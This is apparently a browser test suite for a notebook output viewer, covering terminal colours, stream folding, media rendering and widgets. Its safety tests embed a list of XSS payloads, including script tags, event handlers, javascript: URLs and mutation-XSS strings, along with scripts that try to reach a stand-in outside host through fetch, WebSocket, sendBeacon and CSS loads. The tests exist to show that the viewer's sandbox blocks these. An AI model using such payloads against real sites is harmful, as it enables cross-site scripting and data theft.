"""Outputs in the viewer: each kind is shown as it should be, and none of them runs, asks or reaches anything."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import functools
import hashlib
import json
import re
import socket
import struct
import threading
import zlib
from collections.abc import Coroutine, Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest
from serving import SmallBackend, Socket, serving
from tools import CHROMIUM

from rtc_kernel.agent.mirror.values import PREVIEW_BYTES
from rtc_kernel.tables import (
    AddOutput,
    Execution,
    ExecutionState,
    MergeCommState,
    Output,
    PutComm,
    PutExecution,
    WriteText,
)

pytest.importorskip("playwright.sync_api")
pytest.importorskip("ipywidgets")

from ipywidgets import (
    HTML,
    Button,
    Dropdown,
    FloatProgress,
    HTMLMath,
    Image,
    IntSlider,
    IntText,
    Label,
    Text,
    VBox,
    Widget,
)
from ipywidgets import Output as Capture
from ipywidgets.embed import dependency_state
from jupyterlab_page import Browser, chromium
from playwright.sync_api import Error, Frame, FrameLocator, Locator, Page, expect

pytestmark = [pytest.mark.browser, pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")]

RAN = "window.rtcRan = (window.rtcRan || 0) + 1"
"""What an injected script does: nobody else sets this."""
ON_TOP = """(element) => {
    const { x, y, width, height } = element.getBoundingClientRect();
    return element.contains(document.elementFromPoint(x + width / 2, y + height / 2));
}"""
SECONDS = 60
"""Until something must be there; a busy machine takes its time."""
ESC = "\x1b"


def png(width: int, height: int, colour: tuple[int, int, int]) -> str:
    """A picture of one colour, in base64."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = (b"\x00" + bytes(colour) * width) * height
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
    return base64.b64encode(data).decode()


RED = png(40, 20, (200, 30, 30))


def display(data: dict[str, Any], **metadata: Any) -> Output:
    return Output(output_type="display_data", at=1.0, data=data, metadata=metadata)


def failure(ename: str, evalue: str, *traceback: str) -> Output:
    return Output(output_type="error", at=1.0, ename=ename, evalue=evalue, traceback=traceback)


class Stage:
    """A side socket in a thread of its own, and what happens at its kernel."""

    def __init__(self, loop: asyncio.AbstractEventLoop, socket: Socket) -> None:
        self._loop = loop
        self._socket = socket

    @property
    def url(self) -> str:
        return f"{self._socket.server.url}/?token={self._socket.tokens['view']}"

    @property
    def backend(self) -> SmallBackend:
        return self._socket.backend

    def wait(self, work: Coroutine[Any, Any, Any]) -> Any:
        return asyncio.run_coroutine_threadsafe(work, self._loop).result(SECONDS)

    def push(self, *changes: Any) -> None:
        async def push() -> None:
            self._socket.push(*changes)

        self.wait(push())

    def cell(self, *outputs: Output, state: str = "ok", **columns: Any) -> str:
        """An execution with these outputs, behind an empty stream."""

        async def run() -> str:
            row = self._socket.run_cell(state, started_at=1.0, **columns)
            self._socket.push(*(AddOutput(row, at, output) for at, output in enumerate(outputs, 1)))
            return row

        return self.wait(run())

    def write(self, row: str, *segments: str, first: int = 0) -> None:
        """Append segments to the stream of an execution."""
        self.push(*(WriteText(row, 0, at, None, text) for at, text in enumerate(segments, first)))

    def blob(self, data: bytes, kind: str, preview: Any = None, **more: Any) -> dict[str, Any]:
        """Keep a large value; the reference that stands for it."""
        digest = f"sha256:{hashlib.sha256(data).hexdigest()}"
        self.backend.blobs[digest] = (data, kind)
        return {"blob": digest, "bytes": len(data), "preview": preview, **more}

    def comms(self, *widgets: Widget) -> None:
        """The comms of these widgets and of all that they refer to, as their kernel opened them."""
        for comm, model in dependency_state(widgets, drop_defaults=False).items():
            state = dict(model["state"])
            for buffer in model.get("buffers", ()):
                place = functools.reduce(lambda held, key: held[key], buffer["path"][:-1], state)
                place[buffer["path"][-1]] = base64.b64decode(buffer["data"])
            named = {f"_model_{part}": model[f"model_{part}"] for part in ("name", "module", "module_version")}
            self.push(
                PutComm(comm, {"target": "jupyter.widget", "kernel": "k-1", "opened_at": 1.0}),
                MergeCommState(comm, named | state),
            )

    def widget(self, model: str, plain: str = "a widget") -> Output:
        view = {"version_major": 2, "version_minor": 0, "model_id": model}
        return display({"application/vnd.jupyter.widget-view+json": view, "text/plain": plain})


class Backend(SmallBackend):
    """Streams of the history in pieces of a useful size."""

    def segments(self, execution: str, position: int, segment: int) -> list[str]:
        row = self.execution(execution)
        text = row.outputs[position].text or "" if row is not None else ""
        return [text[at : at + 65536] for at in range(65536 * segment, len(text), 65536)][:16]


@pytest.fixture
def stage() -> Iterator[Stage]:
    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_forever, name="side socket")
    thread.start()
    context = serving(Backend())
    made = asyncio.run_coroutine_threadsafe(context.__aenter__(), loop)
    try:
        yield Stage(loop, made.result(SECONDS))
    finally:
        asyncio.run_coroutine_threadsafe(context.__aexit__(None, None, None), loop).result(SECONDS)
        loop.call_soon_threadsafe(loop.stop)
        thread.join(SECONDS)
        loop.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as found:
        found.context.set_default_timeout(SECONDS * 1000)
        expect.set_options(timeout=SECONDS * 1000)
        yield found


class Elsewhere:
    """Another host, and what it was asked for."""

    def __init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.2", 0))
        self.visits: list[str] = []
        self._thread = threading.Thread(target=self._listen, name="another host")
        self._thread.start()

    @property
    def url(self) -> str:
        host, port = self._listener.getsockname()
        return f"http://{host}:{port}"

    def _listen(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self._listener.accept()
                threading.Thread(target=self._read, args=(connection,), daemon=True).start()

    def _read(self, connection: socket.socket) -> None:
        with connection, contextlib.suppress(OSError):
            connection.settimeout(SECONDS)
            asked = connection.recv(4096).partition(b"\r\n")[0].decode("latin-1")
            # before it asks the policy about a frame's navigation, Chromium may connect, and say nothing
            if asked:
                self.visits.append(asked)

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        self._thread.join(SECONDS)


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    host = Elsewhere()
    try:
        yield host
    finally:
        host.close()


@dataclass
class Viewer:
    """The viewer in a tab. ``problems``: exceptions that nobody caught, and dialogs."""

    page: Page
    problems: list[str] = field(default_factory=list)

    def open(self, row: str) -> Locator:
        """The card of an execution, brought into view by its permalink."""
        self.page.evaluate("row => { location.hash = `#execution=${row}` }", row)
        card = self.page.locator(f'[data-execution="{row}"]')
        card.scroll_into_view_if_needed()
        return card

    def js(self, expression: str) -> Any:
        return self.page.evaluate(expression)

    def widgets(self, card: Locator) -> FrameLocator:
        return card.frame_locator("iframe")

    def frames(self) -> list[Frame]:
        return [frame for frame in self.page.frames if frame != self.page.main_frame]


@contextlib.contextmanager
def viewing(
    browser: Browser, stage: Stage, scheme: Any = "light", width: int = 1100, hostile: bool = False
) -> Iterator[Viewer]:
    """``hostile``: scripts in frames may fail."""
    page = browser.context.new_page()
    viewer = Viewer(page)
    if not hostile:
        page.on("pageerror", lambda error: viewer.problems.append(f"{error.message}\n{error.stack}"))
    page.on("dialog", lambda dialog: (viewer.problems.append(f"dialog: {dialog.message}"), dialog.dismiss()))
    page.add_init_script("""
        window.violations = [];
        document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
    """)
    page.set_viewport_size({"width": width, "height": 900})
    page.emulate_media(color_scheme=scheme)
    try:
        page.goto(stage.url)
        yield viewer
        assert not viewer.problems
    finally:
        page.close()


def contrast(locator: Locator) -> float:
    """Of a text to the first ground behind it, as WCAG counts it."""
    return locator.evaluate(
        """(element) => {
            const canvas = document.createElement("canvas").getContext("2d", { willReadFrequently: true });
            const read = (colour) => {
                canvas.clearRect(0, 0, 1, 1);
                canvas.fillStyle = colour;
                canvas.fillRect(0, 0, 1, 1);
                return [...canvas.getImageData(0, 0, 1, 1).data];
            };
            const parent = (node) => node.parentElement ?? node.getRootNode().host ?? null;
            let ground = element;
            while (parent(ground) && read(getComputedStyle(ground).backgroundColor)[3] < 200) ground = parent(ground);
            const light = (colour) => {
                const [r, g, b] = read(colour).map((part) => {
                    const c = part / 255;
                    return c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4;
                });
                return 0.2126 * r + 0.7152 * g + 0.0722 * b;
            };
            const [one, other] = [getComputedStyle(element).color, getComputedStyle(ground).backgroundColor].map(light);
            return (Math.max(one, other) + 0.05) / (Math.min(one, other) + 0.05);
        }"""
    )


# --- text


def test_text_of_terminals_has_its_colours_wherever_it_was_cut(browser: Browser, stage: Stage) -> None:
    row = stage.cell()
    stage.write(row, f"{ESC}[31mred ", f"still {ESC}[1", f"mbold{ESC}[0m plain ", f"{ESC}[38;5;208mpalette{ESC}[m ")
    stage.write(row, f"{ESC}[48;2;1;2;3mground{ESC}[0m {ESC}[7minverse{ESC}[27m{ESC}[2K{ESC}[5A end", first=4)
    with viewing(browser, stage) as viewer:
        stream = viewer.open(row).locator(".out-stdout")
        expect(stream).to_have_text("red still bold plain palette ground inverse end")
        assert "".join(stream.locator(".ansi-fg-1").all_text_contents()) == "red still bold"
        expect(stream.locator(".ansi-fg-1.ansi-bold")).to_have_text("bold")
        expect(stream.get_by_text("ground")).to_have_css("background-color", "rgb(1, 2, 3)")
        expect(stream.get_by_text("inverse")).to_have_css("color", "rgb(255, 255, 255)")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_colour_of_a_terminal_can_be_read(browser: Browser, stage: Stage, scheme: str) -> None:
    row = stage.cell(failure("E", "v", *(f"{ESC}[{code}mon error{ESC}[0m" for code in (31, 32, 36, 33))))
    codes = [*range(30, 38), *range(90, 98), *range(40, 48), *range(100, 108), 7, "38;5;226", "38;5;18", "48;5;226"]
    stage.write(row, "\n".join(f"{ESC}[{code}mword{ESC}[0m" for code in codes))
    with viewing(browser, stage, scheme) as viewer:
        card = viewer.open(row)
        card.get_by_role("button", name=re.compile("^Show all .* lines")).click()
        words = card.locator(".out-text span").all()
        assert len(words) == len(codes) + 4
        assert min(contrast(word) for word in words) >= 4.5


def test_a_stream_grows_where_it_is(browser: Browser, stage: Stage) -> None:
    row = stage.cell(Output(output_type="stream", at=1.0, name="stderr", text=""), state="running")
    stage.write(row, "one\n")
    with viewing(browser, stage) as viewer:
        card = viewer.open(row)
        stream = card.locator(".out-stdout")
        expect(stream).to_have_text("one")
        stream.evaluate("node => { node.marked = true }")
        stage.push(WriteText(row, 0, 0, None, "two\n"), WriteText(row, 1, 0, None, "a warning\n"))
        expect(stream).to_have_text("one\ntwo", use_inner_text=True)
        expect(card.get_by_role("group", name="standard error")).to_have_text("a warning")
        stage.push(WriteText(row, 0, 0, 4, "three\n"))
        expect(stream).to_have_text("one\nthree", use_inner_text=True)
        assert stream.evaluate("node => node.marked === true")


def test_a_flood_is_folded_and_its_end_is_seen(browser: Browser, stage: Stage) -> None:
    row = stage.cell(state="running")
    lines = [f"{ESC}[32mline{ESC}[0m {at}\n" for at in range(20_000)]
    with viewing(browser, stage) as viewer:
        card = viewer.open(row)
        stream = card.locator(".out-stdout")
        for segment in range(40):
            stage.write(row, "".join(lines[segment * 500 : segment * 500 + 500]), first=segment)
        expect(stream.locator(".out-tail")).to_have_text(re.compile(r"line 19999\s*$"))
        assert stream.evaluate("node => node.querySelectorAll('*').length") < 100
        button = stream.get_by_role("button", name="Show all 20 000 lines")
        expect(button).to_have_attribute("aria-expanded", "false")
        button.press("Enter")
        less = stream.get_by_role("button", name="Show less")
        expect(less).to_have_attribute("aria-expanded", "true")
        expect(stream.locator(".out-piece").nth(20)).to_contain_text("line 10001")
        expect(stream.locator(".out-piece").last).to_contain_text("line 19999")
        stage.write(row, "the last one\n", first=40)
        expect(stream.locator(".out-piece").last).to_have_text("the last one")
        shown = "\n".join(stream.locator(".out-piece").all_text_contents())
        assert shown.split("\n") == [f"line {at}" for at in range(20_000)] + ["the last one"]
        less.press("Enter")
        expect(stream.locator(".out-tail")).to_have_text(re.compile(r"the last one\s*$"))


def test_what_is_left_out_of_a_stream_stands_in_its_place_and_can_be_had(browser: Browser, stage: Stage) -> None:
    row = stage.cell(state="running")
    lines = [f"{at:06d} {'é' * 60}\n" for at in range(15_000)]
    for segment in range(150):
        stage.write(row, "".join(lines[segment * 100 : segment * 100 + 100]), first=segment)
    text = "".join(lines)
    whole = [Output(output_type="stream", at=1.0, name="stdout", text=text)]
    stage.backend.rows = [Execution(id=row, seq=1, state=ExecutionState.RUNNING, code="f()", outputs=whole)]
    with viewing(browser, stage) as viewer:
        stream = viewer.open(row).locator(".out-stdout")
        expect(stream.locator(".out-gap")).to_contain_text("left out here")
        stream.get_by_role("button", name=re.compile("Load all")).click()
        expect(stream.locator(".out-gap")).to_have_count(0)
        expect(stream.get_by_role("button", name="Show all 15 000 lines")).to_be_visible()
        stage.write(row, "".join(lines[:3000]), first=150)  # meanwhile more is left out than was loaded
        expect(stream.locator(".out-tail")).to_contain_text("002999")
        stream.get_by_role("button", name=re.compile("^Show all")).click()
        expect(stream.locator(".out-piece").last).to_contain_text("002999")
        shown = "\n".join(stream.locator(".out-piece").all_text_contents())
        assert shown.split("\n") == [line.rstrip() for line in lines + lines[:3000]]


def test_outputs_that_are_left_out_stand_in_their_place_and_can_be_had(browser: Browser, stage: Stage) -> None:
    outputs = [display({"text/plain": f"output {at}"}) for at in range(9)]
    row = stage.cell(*outputs[:2], *outputs[7:])  # behind the stream: 5 outputs, the gap is before index 2
    stage.push(PutExecution(row, {"omitted_outputs": 4}))
    stream = Output(output_type="stream", at=1.0, name="stdout", text="")
    whole = [stream, outputs[0], *outputs[2:6], outputs[1], *outputs[7:]]
    stage.backend.rows = [Execution(id=row, seq=1, state=ExecutionState.OK, code="f()", outputs=whole)]
    with viewing(browser, stage) as viewer:
        card = viewer.open(row)
        shown = card.locator(".outputs > :is(.out-plain, .out-gap)")
        expect(shown).to_have_text(["output 0", re.compile("4 outputs left out"), "output 1", "output 7", "output 8"])
        card.get_by_role("button", name="Load all").click()
        expect(shown).to_have_text([f"output {at}" for at in (0, 2, 3, 4, 5, 1, 7, 8)])


# --- displays

TABLE = """<div><style scoped>.dataframe thead th { text-align: right; }</style>
<table border="1" class="dataframe"><thead><tr><th></th><th>name</th></tr></thead>
<tbody><tr><th>0</th><td>ada</td></tr>
<tr><th>1</th><td style="background-color: yellow">bob</td></tr></tbody></table></div>"""
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="30" height="10"><rect width="30" height="10" fill="teal"/></svg>'
MARKDOWN = """# Title

It is $e^{i\\pi}$, **bold** and `code`; a [link](https://example.org/a).

$$\\sum_{i=1}^n i$$

| a | b |
| - | - |
| 1 | 2 |

![a picture](https://example.org/b.png)
"""


@pytest.mark.parametrize(("scheme", "width"), [("light", 1100), ("dark", 390)])
def test_each_kind_is_shown_as_it_is_meant(browser: Browser, stage: Stage, scheme: str, width: int) -> None:
    plain = {"text/plain": "the plain form"}
    row = stage.cell(
        display({"image/png": RED, "text/plain": "<Figure size 40x20>"}),
        display({"image/png": RED} | plain, **{"image/png": {"width": 80}}),
        display({"image/svg+xml": SVG} | plain),
        display({"text/html": TABLE} | plain),
        display({"text/markdown": MARKDOWN} | plain),
        display({"text/latex": r"$\displaystyle \frac{1}{2}$"} | plain),
        display({"application/json": {"name": "ada", "list": [1, {"deep": True}]}} | plain),
        display({"application/x-unknown": "?"} | plain),
        display({"application/x-unknown": "?"}),
        display({"application/javascript": "element.textContent = 'drawn by ' + origin"} | plain),
        display({"text/html": "<p id='p'>before</p><script>p.textContent = 'after'</script>"} | plain),
        failure("ValueError", "bad", f"{ESC}[31mTraceback{ESC}[0m", "ValueError: bad"),
    )
    with viewing(browser, stage, scheme, width) as viewer:
        card = viewer.open(row)
        images = card.locator("img")
        expect(images).to_have_count(3)
        expect(images.nth(0)).to_have_attribute("alt", "<Figure size 40x20>")
        for image, size in zip(images.all(), ((40, 20), (80, 40), (30, 10)), strict=True):
            image.scroll_into_view_if_needed()
            expect(image).to_have_js_property("complete", value=True)
            box = image.bounding_box()
            assert box is not None
            assert (round(box["width"]), round(box["height"])) == size
        cells = card.locator("table.dataframe td")
        expect(cells).to_have_text(["ada", "bob"])
        for cell in cells.all():
            assert contrast(cell) >= 4.5
        markdown = card.locator(".out-markdown")
        expect(markdown.get_by_role("heading", name="Title")).to_be_visible()
        expect(markdown.locator(".katex")).to_have_count(2)
        expect(markdown.locator("td")).to_have_text(["1", "2"])
        links = markdown.locator("a")
        expect(links).to_have_text(["link", "a picture (https://example.org/b.png)"])
        for link in links.all():
            expect(link).to_have_attribute("target", "_blank")
            expect(link).to_have_attribute("rel", "noopener noreferrer")
        expect(card.locator(".out-latex .katex")).to_be_visible()
        tree = card.locator(".out-json")
        deep = tree.locator("summary", has_text="{1 key}")
        expect(deep).not_to_be_visible()
        tree.locator("summary", has_text="list").press("Enter")
        deep.press("Enter")
        expect(tree.locator(".out-leaf", has_text="deep: true")).to_be_visible()
        expect(card.locator(".out-plain")).to_have_text("the plain form")
        expect(card.get_by_text("an output of type application/x-unknown")).to_be_visible()
        expect(card.frame_locator("iframe").nth(0).locator("body")).to_have_text("drawn by null")
        expect(card.frame_locator("iframe").nth(1).locator("#p")).to_have_text("after")
        expect(card.get_by_role("group", name="error: ValueError")).to_contain_text("ValueError: bad")
        assert viewer.js("document.documentElement.scrollWidth <= innerWidth")
        assert viewer.js("violations") == []


def test_large_values_come_when_they_are_wanted(browser: Browser, stage: Stage) -> None:
    html = "<b>" + "much " * 20_000 + "</b>"
    picture = base64.b64decode(RED)
    fetched: list[str] = []
    row = stage.cell(
        display({"image/png": stage.blob(picture, "image/png", {"width": 40, "height": 20})}),
        display({"text/html": stage.blob(html.encode(), "text/html", html[:PREVIEW_BYTES]), "text/plain": "short"}),
        display({"text/plain": stage.blob(b"word\n" * 20_000, "text/plain", "word\n" * 200)}),
        display({"image/png": {"blob": None, "bytes": 300 << 20, "preview": None}}),
    )
    with viewing(browser, stage) as viewer:
        viewer.page.on("request", lambda request: fetched.append(request.url) if "/blobs/" in request.url else None)
        card = viewer.open(row)
        expect(card.locator("img")).to_have_js_property("naturalWidth", 40)
        assert len(fetched) <= 1  # the picture
        expect(card.get_by_text("300.0 MiB: too large to be kept")).to_be_visible()
        expect(card.locator(".out-plain").first).to_have_text("short")
        card.get_by_role("button", name="Show all of it (text/html, 97.7 KiB)").click()
        expect(card.locator(".out-html b")).to_contain_text("much much")
        card.get_by_role("button", name="Show all of it (text/plain, 97.7 KiB)").click()
        card.get_by_role("button", name="Show all 20 000 lines").click()
        expect(card.locator(".out-piece").last).to_contain_text("word")


def test_something_high_is_cut_until_its_reader_wants_it(browser: Browser, stage: Stage) -> None:
    rows = "".join(f"<tr><td>row {at}</td></tr>" for at in range(100))
    row = stage.cell(display({"text/html": f"<table>{rows}</table>"}))
    with viewing(browser, stage) as viewer:
        card = viewer.open(row)
        button = card.get_by_role("button", name="Show all", exact=True).locator("visible=true").last
        expect(button).to_have_attribute("aria-expanded", "false")
        assert card.locator(".out-clamped").evaluate("node => node.clientHeight") <= 400
        button.press("Enter")
        expect(card.get_by_role("button", name="Show less")).to_have_attribute("aria-expanded", "true")
        assert card.locator(".out-clamped").evaluate("node => node.clientHeight") > 2000


# --- safety


def hostile(elsewhere: str) -> list[str]:
    """HTML that wants to run something here, to ask another host, or to stand where it should not."""
    return [
        f"<script>{RAN}</script>",
        f"<img src=x onerror='{RAN}'>",
        f"<svg onload='{RAN}'><script>{RAN}</script><a href='javascript:{RAN}'><text y='9'>link</text></a></svg>",
        f"<a href='javascript:{RAN}'>link</a><a href=' java\tscript:{RAN}'>link</a>",
        f"<iframe srcdoc=\"<script>parent.{RAN}</script>\"></iframe><iframe src='javascript:parent.{RAN}'></iframe>",
        f"<details open ontoggle='{RAN}'>x</details><video><source onerror='{RAN}'></video>",
        f"<math><mtext><table><mglyph><style><!--</style><p title=\"--&gt;&lt;img src=1 onerror='{RAN}'&gt;\"></table>",
        f"<noscript><p title=\"</noscript><img src=x onerror='{RAN}'>\"></noscript>",
        f"<form action='javascript:{RAN}'><input name=body><button>go</button></form><template>{RAN}</template>",
        f"<meta http-equiv=refresh content='0;url={elsewhere}/1'><base href='{elsewhere}/'>",
        f"<link rel=stylesheet href='{elsewhere}/2'><link rel=prefetch href='{elsewhere}/3'>",
        f"<style>@import '{elsewhere}/4'; * {{ background: url({elsewhere}/5) }}</style>",
        f"<style>* {{ --a: url({elsewhere}/6); background: var(--a); list-style: u\\72l({elsewhere}/7) }}</style>",
        f"<p style='background: url({elsewhere}/8); cursor: image-set(\"{elsewhere}/9\" 1x)'>styled</p>",
        f"<img src='{elsewhere}/10'><img srcset='{elsewhere}/11 1x'><video poster='{elsewhere}/12'></video>",
        f"<svg><image href='{elsewhere}/13'/><use href='{elsewhere}/14#a'/><rect fill='url({elsewhere}/15#a)'/></svg>",
        f"<object data='{elsewhere}/16'></object><embed src='{elsewhere}/17'><iframe src='{elsewhere}/18'></iframe>",
        f"<table background='{elsewhere}/19'><tr><td background='{elsewhere}/20'>x</td></tr></table>",
        "<style>:host, * { position: fixed !important; inset: 0 !important; z-index: 99999 !important }</style>",
        "<div style='position: fixed; inset: 0; z-index: 99999; background: #f0f' class=cover>cover</div>",
    ]


def test_nothing_in_a_record_runs_or_asks_another_host(browser: Browser, stage: Stage, elsewhere: Elsewhere) -> None:
    """Every type of data, and every text of an execution."""
    attacks = hostile(elsewhere.url)
    joined = "\n".join(attacks)
    quiet = [attack for attack in attacks if "RAN" not in attack]
    link = f"{ESC}]8;;javascript:{RAN}{ESC}\\click{ESC}]8;;{ESC}\\ "
    link += f'{ESC}]8;;{elsewhere.url}" onclick={RAN}{ESC}\\x{ESC}]8;;\x07'
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RAN}"><script>{RAN}</script>'
    svg += f'<image href="{elsewhere.url}/s"/></svg>'
    latex = f"$\\href{{javascript:{RAN}}}{{x}} \\includegraphics{{{elsewhere.url}/l}} \\htmlData{{x=1}}{{y}}$ {joined}"
    wrong = {"width": f'1" onerror="{RAN}', "height": {"a": 1}, "needs_background": f'"><script>{RAN}</script>'}
    rows = [stage.cell(display({"text/html": attack})) for attack in attacks]
    rows += [stage.cell(display({"text/html": "".join(quiet)}))]
    rows += [
        stage.cell(
            display({kind: value, "text/plain": joined}, **{kind: wrong}),
            failure(joined, joined, joined, link),
            code=joined,
            submitted_by=joined,
            error={"ename": joined, "evalue": joined},
            state="error",
        )
        for kind, value in {
            "image/svg+xml": svg,
            "text/markdown": f"{joined}\n\n[x](javascript:{RAN}) ![y]({elsewhere.url}/m) <javascript:{RAN}>\n\n$a$",
            "text/latex": latex,
            "application/json": {joined: [joined, {"__proto__": joined}]},
            "application/javascript": f"parent.{RAN}; {RAN}",
            "image/png": f'"><script>{RAN}</script>',
            "text/plain": joined,
            f'image/x"><script>{RAN}</script>': joined,
            "application/pdf": {"blob": f"sha256:{'0' * 64}", "bytes": 9, "preview": joined},
            "text/csv": {"blob": f"sha256:../../{joined}", "bytes": 9, "preview": joined},
        }.items()
    ]
    rows.append(stage.cell(display({"text/html": stage.blob(joined.encode(), "text/html", joined)})))
    rows.append(stage.cell())
    stage.write(rows[-1], joined + link)
    with viewing(browser, stage, hostile=True) as viewer:
        for row in rows:
            card = viewer.open(row)
            expect(card.locator(".outputs > *").first).to_be_attached()
            unfold = "card => card.querySelectorAll('.out-bar button, .out-clamp > button').forEach((it) => it.click())"
            card.evaluate(unfold)
            for frame in card.locator("iframe").all():
                frame.scroll_into_view_if_needed()
            # what covers the page would be on top of its heading
            assert viewer.page.locator("h1").evaluate(ON_TOP), "covered"
            active = "a[href^='javascript' i], [onclick], [onerror], [onload], script, form, .outputs input"
            assert card.locator(active).count() == 0
        assert viewer.js("[window.rtcRan, document.title.includes('rtcRan')]") == [None, False]
        # reading HTML where nothing runs counts as these; what loads or runs would be others
        assert set(viewer.js("violations")) <= {"script-src-attr", "base-uri"}
        for frame in viewer.frames():
            own = (stage.url.partition("?")[0], "about:", "chrome-error:")
            assert frame.url == "" or frame.url.startswith(own)
        assert elsewhere.visits == []
        with contextlib.suppress(Error):  # it answers nothing
            viewer.page.goto(elsewhere.url)
        assert set(elsewhere.visits) == {"GET / HTTP/1.1"}


def test_a_script_reaches_neither_page_nor_network(browser: Browser, stage: Stage, elsewhere: Elsewhere) -> None:
    url = elsewhere.url
    answer = "await new Promise((yes, no) => { const it = $; it.onload = it.onopen = yes; it.onerror = no; })"
    attempts = {
        "parent": "parent.document.title",
        "parent's variable": f"parent.{RAN}",
        "top": f"top.location = '{url}/top'",
        "cookie": "document.cookie",
        "storage": "localStorage.length",
        "popup": f"if (!open('{url}/popup')) throw new Error('blocked')",
        "fetch": f"await fetch('{url}/fetch')",
        "our own API": "await fetch(location.href.replace('frame.html', 'api/health'))",
        "import": f"await import('{url}/import')",
        "socket": answer.replace("$", f"new WebSocket('{url.replace('http', 'ws')}/socket')"),
        "picture": answer.replace("$", f"Object.assign(new Image(), {{ src: '{url}/picture' }})"),
        "beacon": f"if (!navigator.sendBeacon('{url}/beacon')) throw new Error('blocked')",
    }
    script = f"""
        const attempts = {json.dumps(attempts)}, AsyncFunction = (async () => {{}}).constructor, said = [];
        (async () => {{
            for (const [name, code] of Object.entries(attempts)) {{
                const worked = await AsyncFunction(code)().then(() => true, () => false);
                said.push(`${{name}} ${{worked ? "worked" : "failed"}}`);
                element.textContent = said.join("; ");
            }}
        }})();
    """
    row = stage.cell(display({"application/javascript": script}))
    away = stage.cell(display({"application/javascript": f"location = '{elsewhere.url}/away'"}))
    high = stage.cell(display({"text/html": "<div style='height: 100000px'>high</div><script>1</script>"}))
    with viewing(browser, stage, hostile=True) as viewer:
        card = viewer.open(row)
        body = card.frame_locator("iframe").locator("body")
        expect(body).to_contain_text("beacon")
        said = body.inner_text().split("; ")
        # sendBeacon says yes and is stopped afterwards
        assert [word for word in said if not word.endswith("failed")] in ([], ["beacon worked"])
        assert len(said) == len(attempts)
        expect(card.locator(".out-note")).to_contain_text("another host")
        expect(viewer.open(away).locator(".out-note")).to_contain_text("tried to leave for another page")
        frame = viewer.open(high).locator("iframe")
        expect(frame.content_frame.locator("div")).to_be_visible()
        expect(frame).to_have_css("height", "800px")
        assert viewer.js("window.rtcRan") is None
        assert elsewhere.visits == []


# --- widgets


def test_a_widget_is_drawn_and_moves_with_its_kernel(browser: Browser, stage: Stage) -> None:
    slider = IntSlider(42, 0, 100, description="amount")
    progress = FloatProgress(0.25, min=0, max=1, description="done")
    picture = Image(value=base64.b64decode(RED), width=80)
    said = {"output_type": "stream", "name": "stdout", "text": "captured"}
    others: list[Widget] = [
        HTMLMath("of $x^2$"),
        Capture(outputs=(said,)),
        Dropdown(options=["one", "two"]),
        Button(description="go"),
    ]
    box = VBox([slider, progress, picture, *others])
    stage.comms(box)
    kind = "application/octet-stream"
    reference = stage.blob(base64.b64decode(RED), kind, None, media_type=kind)
    stage.push(MergeCommState(picture.model_id, {"value": reference}))
    row = stage.cell(stage.widget(box.model_id))
    with viewing(browser, stage) as viewer:
        frame = viewer.widgets(viewer.open(row))
        expect(frame.locator(".widget-readout")).to_have_text("42")
        expect(frame.locator(".widget-label").first).to_have_text("amount")
        expect(frame.locator("img.widget-image")).to_have_js_property("naturalWidth", 40)
        expect(frame.locator(".jupyter-widgets.widget-output")).to_contain_text("captured")
        expect(frame.locator(".widget-htmlmath .katex")).to_be_visible()
        bar = frame.locator(".progress-bar")
        expect(bar).to_have_attribute("style", re.compile(r"width: 25%"))
        stage.push(MergeCommState(slider.model_id, {"value": 77}), MergeCommState(progress.model_id, {"value": 0.75}))
        expect(frame.locator(".widget-readout")).to_have_text("77")
        expect(bar).to_have_attribute("style", re.compile(r"width: 75%"))
        late = Label("came later")
        stage.comms(late)
        children = [f"IPY_MODEL_{child.model_id}" for child in (slider, late)]
        stage.push(MergeCommState(box.model_id, {"children": children}))
        expect(frame.locator("body")).to_contain_text("came later")


def test_a_widget_is_only_looked_at(browser: Browser, stage: Stage) -> None:
    slider, number, text = IntSlider(42), IntText(5), Text("as it is")
    box = VBox([slider, number, text])
    stage.comms(box)
    row = stage.cell(stage.widget(box.model_id))
    with viewing(browser, stage) as viewer:
        frame = viewer.widgets(viewer.open(row))
        handle = frame.locator(".noUi-handle")
        handle.press("ArrowRight")
        frame.locator(".noUi-target").click(position={"x": 2, "y": 2}, force=True)
        frame.locator("input[type=text]").press_sequentially("more")
        frame.locator("input[type=number]").press("ArrowUp")
        expect(frame.locator(".widget-readout")).to_have_text("42")
        expect(frame.locator("input[type=text]")).to_have_value("as it is")
        expect(frame.locator("input[type=number]")).to_have_value("5")


def test_a_widget_that_is_not_here_is_shown_as_its_other_form(browser: Browser, stage: Stage) -> None:
    foreign = Label("x")
    stage.comms(foreign)
    stage.push(MergeCommState(foreign.model_id, {"_view_module": "ipyforeign", "_model_module": "ipyforeign"}))
    row = stage.cell(stage.widget(foreign.model_id, "Foreign()"), stage.widget("gone", "Gone()"))
    late = Label("it came")
    early = stage.cell(stage.widget(late.model_id, "not yet"))
    with viewing(browser, stage) as viewer:
        card = viewer.open(row)
        expect(card.locator(".out-plain")).to_have_text(["Foreign()", "Gone()"])
        expect(card.get_by_text("This widget is of ipyforeign")).to_be_visible()
        expect(card.get_by_text("This widget is not in the document")).to_be_visible()
        card = viewer.open(early)
        expect(card.locator(".out-plain")).to_have_text("not yet")
        stage.comms(late)
        expect(viewer.widgets(card).locator("body")).to_contain_text("it came")


